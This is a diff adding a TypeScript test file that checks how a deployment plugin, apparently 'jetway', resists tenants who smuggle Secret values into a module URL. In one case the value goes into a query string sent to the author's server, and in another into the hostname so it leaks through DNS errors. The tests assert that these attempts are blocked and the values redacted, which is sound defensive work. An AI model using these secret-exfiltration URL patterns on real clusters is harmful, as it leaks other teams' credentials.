@@ -1,0 +1,112 @@
+// Tenant attacks through `refs` (issue 11 item 1): an Application author names Secrets in `refs` and places their values
+// in the module URL. A ref reads only in the app's destination namespace, or where the admin's JETWAY_LOOKUP_CEILING
+// admits it, and its value never shows in what jetway writes (argocd-contract.md: stderr becomes the ComparisonError).
+
+import assert from 'node:assert/strict';
+import { mkdtemp } from 'node:fs/promises';
+import { createServer } from 'node:http';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { after, before, test } from 'node:test';
+import { startApiServer, type FakeApiServer } from '../support/apiserver.js';
+import { jetwayLine, startPluginRig, type PluginRig } from '../support/plugin-rig.js';
+import { startHttpServer, type TestServer } from '../support/http-server.js';
+import { watModule } from '../support/wat.js';
+
+let api: FakeApiServer;
+let rig: PluginRig;
+let modules: TestServer;
+
+before(async () => {
+  api = await startApiServer({ namespaces: ['team-a', 'other-team'] });
+  rig = await startPluginRig(api, { 'app/README': 'an app whose module comes from a URL\n' });
+  const flight = await watModule('yaml-stages');
+  modules = await startHttpServer((request, response) => {
+    response.end(request.url?.startsWith('/flight.wasm') ? flight : 'no');
+  });
+});
+
+after(async () => {
+  await modules.close();
+  await rig.close();
+  await api.close();
+});
+
+const secret = (namespace: string, name: string, data: Record<string, string>) =>
+  api.put({ apiVersion: 'v1', kind: 'Secret', metadata: { name, namespace }, data: Object.fromEntries(Object.entries(data).map(([k, v]) => [k, Buffer.from(v).toString('base64')])) });
+
+const secretReads = (namespace: string, name: string) => api.requests.filter((r) => r.path === `/api/v1/namespaces/${namespace}/secrets/${name}`).length;
+
+test("an app author reads another namespace's Secret through refs and sends it to their own server", async () => {
+  secret('other-team', 'db-password', { password: 'hunter2' });
+  const parameters = [
+    { name: 'refs', map: { pw: JSON.stringify({ secret: 'db-password', key: 'password', namespace: 'other-team' }) } },
+    { name: 'wasm', string: `${modules.url}/flight.wasm?stolen={{ .pw }}` },
+  ];
+  await assert.rejects(rig.repoServer().generate(rig.app('thief', 'app', parameters)), (error: unknown) => {
+    assert.match(
+      jetwayLine(error),
+      /^jetway: generate for Application thief failed: parameter refs\.pw: got "other-team\/db-password", expected a Secret in the destination namespace team-a; Secrets elsewhere only where the admin ceiling JETWAY_LOOKUP_CEILING admits them/,
+    );
+    return true;
+  });
+  assert.equal(secretReads('other-team', 'db-password'), 0, 'the Secret was never read');
+  assert.deepEqual(modules.requests, [], 'nothing was sent anywhere');
+
+  // the admin can grant exactly that Secret; then the same Application renders. JETWAY_MODULE_ALLOW judges the URL
+  // with the value filled in (this glob admits only that one expanded URL, never the template)
+  const allow = `${modules.url}/flight.wasm[?]stolen=hunter2`;
+  const granted = rig.repoServer({ JETWAY_LOOKUP_CEILING: 'other-team/Secret:db-password', JETWAY_MODULE_ALLOW: allow });
+  const { manifests } = await granted.generate(rig.app('granted', 'app', parameters));
+  assert.equal(manifests.length, 2);
+  assert.deepEqual(modules.requests, ['/flight.wasm?stolen=hunter2']);
+  secret('other-team', 'db-password', { password: 'hunter3' });
+  await assert.rejects(granted.generate(rig.app('granted-other-value', 'app', parameters)), (error: unknown) => {
+    assert.match(jetwayLine(error), /module http:\/\/[\d.:]+\/flight\.wasm\?stolen=\{\{ \.pw \}\} is not in the allow-list \(JETWAY_MODULE_ALLOW\)/);
+    assert.doesNotMatch(jetwayLine(error), /hunter3/);
+    return true;
+  });
+  assert.equal(modules.requests.length, 1);
+});
+
+/** A stand-in for jetway serve's socket that keeps the run records generate posts (what `jetway status` and Events show). */
+async function recordingSocket(): Promise<{ path: string; records: Array<Record<string, unknown>>; close(): Promise<void> }> {
+  const path = join(await mkdtemp(join(tmpdir(), 'jetway-records-')), 'jetway.sock');
+  const records: Array<Record<string, unknown>> = [];
+  const server = createServer((request, response) => {
+    const chunks: Buffer[] = [];
+    request.on('data', (c: Buffer) => chunks.push(c));
+    request.on('end', () => {
+      if (request.url === '/v1/records') records.push(JSON.parse(Buffer.concat(chunks).toString('utf8')) as Record<string, unknown>);
+      response.writeHead(request.url === '/v1/records' ? 204 : 503).end();
+    });
+  });
+  await new Promise<void>((resolve) => server.listen(path, resolve));
+  return { path, records, close: () => new Promise<void>((resolve) => server.close(() => resolve())) };
+}
+
+test("an app author puts a Secret's value in the module URL's host to read it from the ComparisonError or the run record", async () => {
+  secret('team-a', 'registry-token', { token: 'S3cretT0ken' });
+  const parameters = [
+    { name: 'refs', map: { token: JSON.stringify({ secret: 'registry-token', key: 'token' }) } },
+    { name: 'wasm', string: 'http://{{ .token }}.invalid/flight.wasm' },
+  ];
+  const service = await recordingSocket();
+  try {
+    await assert.rejects(rig.repoServer({ JETWAY_SOCKET: service.path }).generate(rig.app('leaker', 'app', parameters)), (error: unknown) => {
+      const line = jetwayLine(error);
+      // the resolver names the host lower-cased (getaddrinfo ENOTFOUND s3crett0ken.invalid): no form of the value may show
+      assert.doesNotMatch(line, /s3crett0ken/i);
+      assert.match(line, /^jetway: generate for Application leaker failed: cannot download module http:\/\/\{\{ \.token \}\}\.invalid\/flight\.wasm: .*\{\{ \.token \}\}\.invalid/);
+      return true;
+    });
+    assert.equal(secretReads('team-a', 'registry-token'), 1);
+    // the failed run's record (the service's status and Events) is redacted the same way
+    assert.equal(service.records.length, 1);
+    assert.equal(service.records[0]!['outcome'], 'failed');
+    assert.match(String(service.records[0]!['statusMessage']), /\{\{ \.token \}\}\.invalid/);
+    assert.doesNotMatch(JSON.stringify(service.records), /s3crett0ken/i);
+  } finally {
+    await service.close();
+  }
+});
